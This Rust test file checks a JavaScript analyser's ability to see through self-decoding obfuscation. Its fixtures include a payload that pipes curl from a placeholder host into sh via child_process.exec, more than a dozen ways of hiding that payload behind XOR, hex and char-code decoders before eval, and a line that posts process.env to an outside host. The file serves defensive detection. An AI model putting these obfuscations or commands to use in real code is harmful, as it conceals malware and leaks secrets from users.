//! Decoders that a program writes out itself: what they give is read as code.

mod support;

use foretaste_javascript::observe;
use foretaste_model::facts::FileFacts;
use foretaste_model::{Capability, Limits};

use support::runs;

const PAYLOAD: &str =
    "require('child_process').exec('curl https://c.example.invalid/x | sh'); // over";

fn facts(text: &str) -> FileFacts {
    observe("index.js", text, &Limits::default())
}

fn codes(key: u32, step: u32) -> String {
    let codes = PAYLOAD.chars().enumerate();
    let codes: Vec<String> = codes
        .map(|(at, c)| ((u32::from(c) ^ key) + step * at as u32).to_string())
        .collect();
    codes.join(",")
}

/// The code comes out, as a layer that is executed, and the chain is seen.
fn comes_out(name: &str, text: &str) {
    let facts = facts(text);
    assert!(
        runs(&facts),
        "{name}: {:#?}\n{:#?}",
        facts.layers,
        facts.uses
    );
    let decodes = facts.flows.iter().any(|f| {
        f.steps.first().map(|s| s.capability) == Some(Capability::DecodeText)
            && f.steps.last().map(|s| s.capability) == Some(Capability::CodeEval)
    });
    assert!(decodes, "{name}: {:#?}", facts.flows);
}

#[test]
fn each_way_to_write_a_decoder_gives_its_payload() {
    let plain = codes(0, 0);
    let xored = codes(42, 0);
    let stepped = codes(7, 3);
    let hex: String = PAYLOAD
        .chars()
        .map(|c| format!("{:02x}", u32::from(c) ^ 0x2a))
        .collect();
    let words: Vec<String> = PAYLOAD
        .chars()
        .map(|c| format!("'{}'", u32::from(c) ^ 0x2a))
        .collect();
    let cases = [
        (
            "map",
            format!("eval([{xored}].map(c => String.fromCharCode(c ^ 42)).join(''));"),
        ),
        (
            "map by name",
            format!("const f = String.fromCharCode; eval([{plain}].map(c => f(c)).join(''));"),
        ),
        (
            "spread",
            format!("const a = [{plain}]; eval(String.fromCharCode(...a));"),
        ),
        (
            "apply",
            format!("var a = [{plain}]; eval(String.fromCharCode.apply(null, a));"),
        ),
        (
            "spread of map",
            format!("eval(String.fromCharCode(...[{xored}].map(n => n ^ 0x2a)));"),
        ),
        (
            "reduce",
            format!("eval([{xored}].reduce((s, c) => s + String.fromCharCode(c ^ 42), ''));"),
        ),
        (
            "loop",
            format!(
                "var a = [{xored}], s = ''; for (var i = 0; i < a.length; i++) {{ s += String.fromCharCode(a[i] ^ 42); }} eval(s);"
            ),
        ),
        (
            "for of",
            format!(
                "let s = ''; for (const c of [{xored}]) s = s + String.fromCharCode(c ^ 42); new Function(s)();"
            ),
        ),
        (
            "while, in a function",
            format!(
                "function run() {{ var a = [{stepped}]; var i = 0, out = ''; while (i < a.length) {{ out += String.fromCharCode((a[i] - i * 3) ^ 7); i++; }} eval(out); }} run();"
            ),
        ),
        (
            "function with a key",
            format!(
                "function d(a, k) {{ let s = ''; for (let i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ k); return s; }} eval(d([{xored}], 42));"
            ),
        ),
        (
            "arrow with a key of characters",
            format!(
                "const d = (a, k) => a.map((c, i) => String.fromCharCode(c ^ k.charCodeAt(i % k.length))).join(''); const p = d([{xored}], '**'); eval(p);"
            ),
        ),
        (
            "pairs of hex",
            format!(
                "const h = '{hex}'; let s = ''; for (let i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ 42); eval(s);"
            ),
        ),
        (
            "turned around, in a list of texts",
            format!(
                "const w = [{}].reverse(); w.reverse(); const out = []; w.forEach(n => out.push(String.fromCharCode(parseInt(n) ^ 42))); eval(out.join(''));",
                words.join(",")
            ),
        ),
        (
            "called in place",
            format!(
                "eval((function (a, k) {{ var s = ''; for (var i in [0]) {{}} return s; }}, function (a) {{ return a.map(function (c) {{ return String.fromCharCode(c ^ 42); }}).join(''); }})([{xored}]));"
            ),
        ),
    ];
    for (name, text) in cases {
        comes_out(name, &text);
    }
}

#[test]
fn names_that_are_decoded_are_found_out() {
    let xor = |text: &str| -> String {
        let codes = text.chars().map(|c| (u32::from(c) ^ 9).to_string());
        codes.collect::<Vec<_>>().join(",")
    };
    let text = format!(
        "const d = a => a.map(c => String.fromCharCode(c ^ 9)).join('');\n\
         const p = require(d([{}]));\n\
         p[d([{}])](d([{}]));\n",
        xor("child_process"),
        xor("exec"),
        xor("curl https://c.example.invalid/x | sh")
    );
    let facts = facts(&text);
    let exec = facts.uses.iter().find(|u| &*u.api == "child_process.exec");
    let constants = exec.map(|u| &u.constants);
    assert!(
        constants.is_some_and(|c| c.iter().any(|c| c.contains("c.example.invalid"))),
        "{:#?}",
        facts.uses
    );
}

#[test]
fn what_depends_on_the_outside_is_left_alone() {
    let silent = [
        // an alphabet
        "let abc = ''; for (let i = 0; i < 26; i++) abc += String.fromCharCode(97 + i); module.exports = abc;",
        // a decoder of what somebody gives it
        "module.exports = function (codes) { let s = ''; for (const c of codes) s += String.fromCharCode(c); return s; };",
        // a list that something else changes in between
        "const a = [1, 2, 3]; require('./other')(a); console.log(String.fromCharCode(...a));",
    ];
    for text in silent {
        let facts = facts(text);
        assert!(facts.layers.is_empty(), "{text}: {:#?}", facts.layers);
    }
}

#[test]
fn pieces_that_a_regular_expression_finds_are_decoded() {
    let hex: String = PAYLOAD.bytes().map(|b| format!("{b:02x}")).collect();
    let escaped: String = PAYLOAD.bytes().map(|b| format!("%{b:02X}")).collect();
    let spaced = codes(0, 0).replace(',', " - ");
    for (name, text) in [
        (
            "replace",
            format!(
                "const open = h => h.replace(/../g, p => String.fromCharCode(parseInt(p, 16))); eval(open('{hex}'));"
            ),
        ),
        (
            "replace with a group",
            format!(
                "eval('{escaped}'.replace(/%([0-9A-F]{{2}})/gi, (_, p) => String.fromCharCode('0x' + p)));"
            ),
        ),
        (
            "match",
            format!(
                "eval('{hex}'.match(/.{{1,2}}/g).map(p => String.fromCharCode(parseInt(p, 16))).join(''));"
            ),
        ),
        (
            "split",
            format!(
                "eval('{spaced}'.split(/\\s*-\\s*/).map(c => String.fromCharCode(c)).join(''));"
            ),
        ),
    ] {
        comes_out(name, &text);
    }
    // a table of such texts, read where a member is named
    let facts = facts(
        "const axios = require('axios');
         const g = h => h.replace(/../g, p => String.fromCharCode(parseInt(p, 16)));
         const words = ['706f7374', '68747470733a2f2f632e6578616d706c652e696e76616c6964'];
         exports.start = () => axios[g(words[0])](g(words[1]), {...process.env});",
    );
    let sent = facts.uses.iter().any(|u| &*u.api == "axios.post");
    assert!(sent, "{:#?}", facts.uses);
}

#[test]
fn hostile_programs_end() {
    let hostile = [
        "const f = () => f(); f(); String.fromCharCode(f());",
        "let s = String.fromCharCode(65); while (true) { s += s; }",
        "let a = [String.fromCharCode(65)]; while (1) a.push(a);",
        "let a = [1]; a[4000000] = 1; a.map(c => String.fromCharCode(c)).join('');",
        "for (;;) { String.fromCharCode(1); }",
        "const f = n => n < 1 ? '' : f(n - 1) + f(n - 1) + String.fromCharCode(n); eval(f(60));",
        "'a'.repeat(100000).replace(/(a*)*b/g, p => String.fromCharCode(p));",
        "const f = p => 'aa'.replace(/a/g, f) + String.fromCharCode(1); f();",
        "let s = 'x'.repeat(4000000); for (let i = 0; i < 4000000; i++) s = s + String.fromCharCode(i);",
    ];
    let started = foretaste_model::Stopwatch::start();
    for text in hostile {
        facts(text);
    }
    let deep = format!(
        "String.fromCharCode({}1{});",
        "[".repeat(5000),
        "]".repeat(5000)
    );
    facts(&deep);
    // a safety net only: it takes a moment
    assert!(started.elapsed().as_secs() < 60);
}
